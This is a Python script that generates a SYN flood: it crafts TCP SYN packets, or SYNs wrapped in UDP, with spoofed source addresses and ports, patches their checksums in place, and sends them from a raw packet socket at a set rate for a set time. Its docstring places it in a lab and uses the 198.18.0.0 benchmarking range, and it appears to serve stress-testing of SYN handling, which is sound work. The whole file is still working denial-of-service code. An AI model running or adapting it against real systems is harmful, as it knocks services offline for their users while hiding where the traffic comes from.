#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends SYNs with made-up senders, in UDP form or as TCP, at a steady rate; then prints how many there were.

syn_flood.py INTERFACE MAC udp|tcp ADDRESS PORT RATE SECONDS; runs in a host of the lab; may touch: one packet socket.
"""

import ipaddress
import random
import socket
import struct
import sys
import time

import craft

ETHERTYPE = 0x0800
SENDERS = int(ipaddress.ip_address("198.18.0.0"))  # and the 131 071 after it
BATCH_SECONDS = 0.001
CHECKSUM = {"udp": 26, "tcp": 36}  # offsets in the IPv4 packet
SEQUENCE = {"udp": 32, "tcp": 24}
MAKE = {"udp": craft.wrapped, "tcp": craft.plain}


def packets(form, target):
    """SYNs without end. Each is the same bytes, changed in place."""
    packet = bytearray(MAKE[form](("198.18.0.0", 0), target, craft.SYN, 0, options=craft.CAPABLE))
    (check,) = struct.unpack_from("!H", packet, CHECKSUM[form])
    (header_check,) = struct.unpack_from("!H", packet, 10)
    rolls = random.Random(1)
    while True:
        dice = rolls.getrandbits(64)
        sender, port, sequence = SENDERS + (dice & 0x1FFFF), 1024 + (dice >> 17) % 64000, dice >> 32
        # What differs from the first packet, whose port and sequence number are 0 (RFC 1624).
        address = (sender >> 16) - (SENDERS >> 16) + (sender & 0xFFFF)
        struct.pack_into("!I", packet, 12, sender)
        struct.pack_into("!H", packet, 10, difference(header_check, address))
        struct.pack_into("!H", packet, 20, port)
        struct.pack_into("!I", packet, SEQUENCE[form], sequence)
        struct.pack_into(
            "!H",
            packet,
            CHECKSUM[form],
            difference(check, address + port + (sequence >> 16) + (sequence & 0xFFFF)) or 0xFFFF,
        )
        yield packet


def difference(check, more):
    """A checksum when so much is added to what it sums."""
    total = (~check & 0xFFFF) + more
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    """Sends in batches of a millisecond; what the machine is too slow for is left out."""
    interface, mac, form, address, port, rate, seconds = sys.argv[1:]
    to = (interface, ETHERTYPE, 0, 0, bytes.fromhex(mac.replace(":", "")))
    batch = max(1, round(float(rate) * BATCH_SECONDS))
    source, sent = packets(form, (address, int(port))), 0
    begin = due = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as sender:
        while due < begin + float(seconds):
            for _ in range(batch):
                sender.sendto(next(source), to)
            sent += batch
            due = max(due + batch / float(rate), time.monotonic() - 0.1)
            time.sleep(max(0.0, due - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main()
